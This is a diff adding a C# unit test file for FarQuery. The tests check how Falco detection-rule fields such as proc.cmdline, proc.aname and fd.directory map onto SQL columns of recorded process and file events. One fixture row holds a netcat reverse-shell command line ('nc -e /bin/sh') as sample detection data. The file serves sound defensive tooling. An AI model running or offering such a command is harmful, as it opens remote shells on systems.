@@ -1,0 +1,61 @@
+// SPDX-License-Identifier: Apache-2.0
+namespace FarQuery.Rules.Tests;
+
+/// <summary>Falco fields to columns: what maps, and the reasons for what does not.</summary>
+public sealed class FieldMapTests
+{
+    [Theory]
+    [InlineData("k8s.ns.name", "process_events", "no Kubernetes on Fargate")]
+    [InlineData("proc.tty", "process_events", "controlling terminal")]
+    [InlineData("thread.cap_effective", "process_events", "capabilities")]
+    [InlineData("fd.name", "process_events", "no file descriptor")]
+    [InlineData("user.uid", "socket_events", "does not record it")]
+    [InlineData("fd.sip.name", "socket_events", "DNS")]
+    [InlineData("container.mount.dest", "process_events", "mounts")]
+    [InlineData("nosuch.field", "process_events", "not a field FarQuery knows")]
+    public void Resolve_UnseenField_NullWithReason(string field, string table, string reason)
+    {
+        var t = FieldMap.Tables.Single(x => x.Name == table);
+        Assert.Null(FieldMap.Resolve(new FieldReference(field, null), t, out var why));
+        Assert.Contains(reason, why, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Resolve_AncestorBeyondLineage_Rejected()
+    {
+        Assert.Null(FieldMap.Resolve(new FieldReference("proc.aname", "6"), FieldMap.ProcessEvents, out var why));
+        Assert.Contains("5 ancestors", why, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Resolve_ProcessFields_MatchFalcoSemanticsOnRows()
+    {
+        using var db = new EventDatabase();
+        db.Add("process_events", ("syscall", "execve"), ("name", "nc"), ("cmdline", "./nc -e /bin/sh host 22"), ("parent_name", "bash"),
+            ("parent_cmdline", "/bin/bash -c x"), ("ancestors", "bash sshd init"), ("path", "/usr/bin/nc.openbsd"));
+        string Get(string field, string? arg = null) =>
+            db.Run($"SELECT {FieldMap.Resolve(new FieldReference(field, arg), FieldMap.ProcessEvents, out _)!.Expressions[0]} AS v FROM process_events e")[0]["v"]!;
+        Assert.Equal("nc -e /bin/sh host 22", Get("proc.cmdline"));
+        Assert.Equal("-e /bin/sh host 22", Get("proc.args"));
+        Assert.Equal("./nc", Get("proc.exe"));
+        Assert.Equal("/usr/bin/nc.openbsd", Get("proc.exepath"));
+        Assert.Equal("bash -c x", Get("proc.pcmdline"));
+        Assert.Equal("bash", Get("proc.aname", "1"));
+        Assert.Equal("sshd", Get("proc.aname", "2"));
+        Assert.Equal("init", Get("proc.aname", "3"));
+    }
+
+    [Fact]
+    public void Resolve_FileFields_DirectoryAndFilename()
+    {
+        using var db = new EventDatabase();
+        db.Add("process_file_events", ("operation", "open"), ("syscall", "openat"), ("path", "/etc/ssh/sshd_config"), ("flags", "01101"), ("result", 3));
+        string Get(string field) => db.Run($"SELECT {FieldMap.Resolve(new FieldReference(field, null), FieldMap.ProcessFileEvents, out _)!.Expressions[0]} AS v FROM process_file_events e")[0]["v"]!;
+        Assert.Equal("/etc/ssh", Get("fd.directory"));
+        Assert.Equal("sshd_config", Get("fd.filename"));
+        Assert.Equal("f", Get("fd.typechar"));
+        Assert.Equal("3", Get("fd.num"));
+        Assert.Equal("1", Get("evt.is_open_write"));
+        Assert.Equal("(e.flags IS NOT NULL AND substr(e.flags, -4, 1) IN ('1', '3', '5', '7'))", FieldMap.FlagTest(FieldMap.ProcessFileEvents, "flags", "O_TRUNC"));
+    }
+}
